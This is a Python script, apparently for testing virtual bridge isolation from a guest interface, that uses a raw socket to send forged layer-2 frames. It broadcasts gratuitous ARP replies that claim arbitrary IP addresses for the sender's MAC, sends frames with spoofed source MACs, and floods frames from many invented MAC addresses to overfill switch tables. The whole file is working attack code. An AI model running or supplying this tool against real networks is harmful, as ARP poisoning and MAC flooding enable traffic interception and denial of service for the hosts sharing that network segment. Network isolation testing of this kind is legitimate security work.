"""Frames on the bridge that say what is not so, from this guest's interface. Needs root, and nothing but Python's own library.

``spoof_bridge.py INTERFACE SECONDS PER_SECOND WHAT...``, where WHAT is any of::

    arp=ADDRESS          ADDRESS is at our MAC address (gratuitous, to everybody)
    mac=MAC              a frame from MAC
    macs=COUNT           frames from so many MAC addresses, at once, before the rest
"""

from __future__ import annotations

import json
import socket
import struct
import sys
import time
from pathlib import Path

EVERYBODY = b"\xff" * 6
PAYLOAD = b"\x88\xb5" + bytes(46)  # an EtherType for experiments


def arp(mac: bytes, address: str) -> bytes:
    at = socket.inet_aton(address)
    body = struct.pack(">HHBBH", 1, 0x0800, 6, 4, 2) + mac + at + EVERYBODY + at
    return EVERYBODY + mac + b"\x08\x06" + body


def main(interface: str, seconds: float, per_second: float, *what: str) -> dict[str, int]:
    own = bytes.fromhex(Path(f"/sys/class/net/{interface}/address").read_text().strip().replace(":", ""))
    frames: list[bytes] = []
    first = 0
    for one in what:
        kind, _, value = one.partition("=")
        if kind == "arp":
            frames.append(arp(own, value))
        elif kind == "mac":
            frames.append(EVERYBODY + bytes.fromhex(value.replace(":", "")) + PAYLOAD)
        else:
            first = int(value)
    sent = 0
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as door:
        door.bind((interface, 0))
        for number in range(first):
            try:
                door.send(EVERYBODY + b"\x02" + number.to_bytes(5, "big") + PAYLOAD)
                sent += 1
            except OSError:
                time.sleep(0.01)
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            for frame in frames:
                door.send(frame)
                sent += 1
            time.sleep(1 / per_second)
    return {"sent": sent}


if __name__ == "__main__":
    print(json.dumps(main(sys.argv[1], float(sys.argv[2]), float(sys.argv[3]), *sys.argv[4:])))
